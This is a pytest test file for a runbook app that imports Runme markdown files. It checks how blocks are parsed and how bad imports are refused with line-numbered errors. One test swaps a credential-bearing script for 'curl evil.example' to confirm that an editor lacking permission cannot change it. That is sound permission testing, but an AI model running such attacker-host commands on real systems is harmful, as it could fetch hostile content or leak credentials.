"""Importing files: a hand-written Runme file, and every refusal (with its line, nothing saved)."""

import pytest

from apps.core.errors import StaleRevision
from apps.runbooks.exchange.services import (
    ImportRefused,
    ImportTooLarge,
    read_file,
    runbook_export,
    runbook_import_create,
    runbook_import_replace,
)
from apps.runbooks.models import Runbook
from apps.runbooks.services.runbooks import runbook_update
from tests.runbooks.exchange.conftest import counts

pytestmark = pytest.mark.django_db

RUNME_FILE = """# Rotate the cache

Use this when the cache serves stale pages.

```sh {"name": "check-disk", "interactive": "false"}
df -h /var/cache
```

Now flush it. Make sure **nobody** is deploying.

```bash {"name": "flush", "excludeFromRunAll": "true", "mimeType": "text/plain", "runme.dev/id": "01HX"}
redis-cli FLUSHALL
```

```python
print("just an example in the prose")
```

```sh
echo done
```
"""


def test_a_runme_file_imports_into_the_expected_blocks_and_keeps_unknown_attributes(world):
    runbook = runbook_import_create(user=world.cast.editor, text=RUNME_FILE)
    assert runbook.title == "Rotate the cache"
    assert runbook.description == "# Rotate the cache\n\nUse this when the cache serves stale pages."
    blocks = [(block.key, block.kind, block.config) for block in runbook.blocks.order_by("position")]
    assert [(key, kind) for key, kind, _ in blocks] == [
        ("check-disk", "command"),
        ("instruction-1", "instruction"),
        ("flush", "command"),
        ("instruction-2", "instruction"),
        ("command-1", "command"),
    ]
    assert blocks[0][2] == {
        "script": "df -h /var/cache", "shell": "sh", "timeout_seconds": 300, "credentials": [],
        "continue_on_error": False, "attributes": {"interactive": "false"},
    }  # fmt: skip
    assert blocks[1][2] == {"markdown": "Now flush it. Make sure **nobody** is deploying.", "gate": "none"}
    assert blocks[2][2]["shell"] == "bash"
    assert blocks[2][2]["attributes"] == {"excludeFromRunAll": "true", "mimeType": "text/plain", "runme.dev/id": "01HX"}
    assert blocks[3][2]["markdown"].startswith("```python\nprint(")
    exported = runbook_export(runbook=runbook)
    assert (
        '```bash {"name": "flush", "runbooks.timeout": "300", "runbooks.continue_on_error": "false", '
        '"excludeFromRunAll": "true", "mimeType": "text/plain", "runme.dev/id": "01HX"}\nredis-cli FLUSHALL\n```'
    ) in exported
    assert '"interactive": "false"' in exported


def refused(call) -> list[tuple]:
    before = counts()
    with pytest.raises(ImportRefused) as caught:
        call()
    assert counts() == before
    return [(problem.line, problem.message) for problem in caught.value.problems]


FILE = """---
title: Deploy
environment: {environment}
---

```sh {{"name": "ship", "runbooks.credentials": "{credential}"}}
./deploy
```
"""


def test_it_refuses_an_unknown_kind(world):
    text = '---\ntitle: T\n---\n\n```runbooks-deploy {"name": "x"}\nwhere: prod\n```\n'
    [(line, message)] = refused(lambda: runbook_import_create(user=world.cast.editor, text=text))
    assert line == 5 and "Unknown block kind" in message


def test_it_refuses_a_duplicate_key(world):
    text = '```sh {"name": "a"}\ntrue\n```\n\n```sh {"name": "a"}\nfalse\n```\n'
    [(line, message)] = refused(lambda: runbook_import_create(user=world.cast.editor, text=text))
    assert line == 5 and "already used" in message


def test_it_refuses_an_unknown_environment_name(world):
    text = FILE.format(environment="nowhere", credential="prod-api")
    [(line, message)] = refused(lambda: runbook_import_create(user=world.cast.editor, text=text))
    assert (line, message) == (3, "There is no environment named “nowhere”.")


def test_it_refuses_an_unknown_credential_name_as_it_refuses_one_the_importer_may_not_use(world):
    unknown = refused(
        lambda: runbook_import_create(
            user=world.cast.editor, text=FILE.format(environment="default", credential="nope")
        )
    )
    forbidden = refused(
        lambda: runbook_import_create(
            user=world.cast.editor, text=FILE.format(environment="default", credential="owner-only")
        )
    )
    assert unknown == [(6, "There is no credential named “nope” that you may use.")]
    assert forbidden == [(6, "There is no credential named “owner-only” that you may use.")]


def test_it_refuses_changing_a_block_that_carries_a_credential_the_importer_may_not_use(world):
    cast = world.cast
    runbook = runbook_update(
        runbook=cast.runbook, user=cast.owner, revision=cast.runbook.revision,
        blocks=[{"key": "ship", "kind": "command", "config": {"script": "./deploy", "credentials": [world.private.pk]}}],
    )  # fmt: skip
    text = runbook_export(runbook=runbook)
    # The editor's unchanged file imports (the block is left as it was) …
    assert (
        runbook_import_replace(user=cast.editor, runbook=runbook, text=text, revision=runbook.revision).saved is False
    )
    # … a changed script does not.
    changed = text.replace("./deploy", "curl evil.example")
    [(line, message)] = refused(
        lambda: runbook_import_replace(user=cast.editor, runbook=runbook, text=changed, revision=runbook.revision)
    )
    assert line == text.split("\n").index(next(x for x in text.split("\n") if x.startswith("```sh"))) + 1
    assert "owner-only" in message and "user role" in message


def test_it_refuses_invalid_yaml_in_a_fence_with_its_line(world):
    text = '---\ntitle: T\n---\n\n```runbooks-http {"name": "call"}\nmethod: GET\nurl: [https://x.example\n```\n'
    [(line, message)] = refused(lambda: runbook_import_create(user=world.cast.editor, text=text))
    assert line in (7, 8) and message.startswith("Invalid YAML")


def test_it_maps_a_service_error_to_the_field_line_of_its_fence(world):
    text = '---\ntitle: T\n---\n\n```runbooks-timer {"name": "wait"}\nseconds: 999999\n```\n'
    [(line, message)] = refused(lambda: runbook_import_create(user=world.cast.editor, text=text))
    assert line == 6 and message.startswith("Block “wait”, seconds:")


def test_it_refuses_a_file_over_the_size_limit(world, settings):
    settings.RUNBOOKS_MAX_IMPORT_BYTES = 1000
    before = counts()
    with pytest.raises(ImportTooLarge):
        read_file(b"# big\n" + b"x" * 1000)
    with pytest.raises(ImportTooLarge):
        runbook_import_create(user=world.cast.editor, text="# big\n" + "x" * 1000)
    assert counts() == before


def test_it_refuses_a_stale_revision_and_saves_nothing(world):
    cast = world.cast
    text = runbook_export(runbook=cast.runbook).replace("echo restarting", "echo changed")
    before = counts()
    with pytest.raises(StaleRevision):
        runbook_import_replace(user=cast.editor, runbook=cast.runbook, text=text, revision=cast.runbook.revision - 1)
    assert counts() == before


def test_a_dry_run_shows_the_block_diff_and_saves_nothing(world):
    cast = world.cast
    text = runbook_export(runbook=cast.runbook).replace("echo restarting", "echo changed")
    before = counts()
    result = runbook_import_replace(
        user=cast.editor, runbook=cast.runbook, text=text, revision=cast.runbook.revision, dry_run=True
    )
    assert counts() == before and not result.saved
    [changed] = result.diff.changed_blocks
    assert changed.key == "restart" and [change.name for change in changed.changes] == ["config.script"]
    saved = runbook_import_replace(user=cast.editor, runbook=cast.runbook, text=text, revision=cast.runbook.revision)
    assert (
        saved.saved
        and Runbook.objects.get(pk=cast.runbook.pk).blocks.get(key="restart").config["script"] == "echo changed"
    )


def test_it_refuses_a_file_of_another_runbook(world):
    cast = world.cast
    other = runbook_import_create(user=cast.owner, text="# Other\n")
    text = runbook_export(runbook=other)
    [(line, message)] = refused(
        lambda: runbook_import_replace(user=cast.owner, runbook=cast.runbook, text=text, revision=cast.runbook.revision)
    )
    assert line == 2 and "not this one" in message
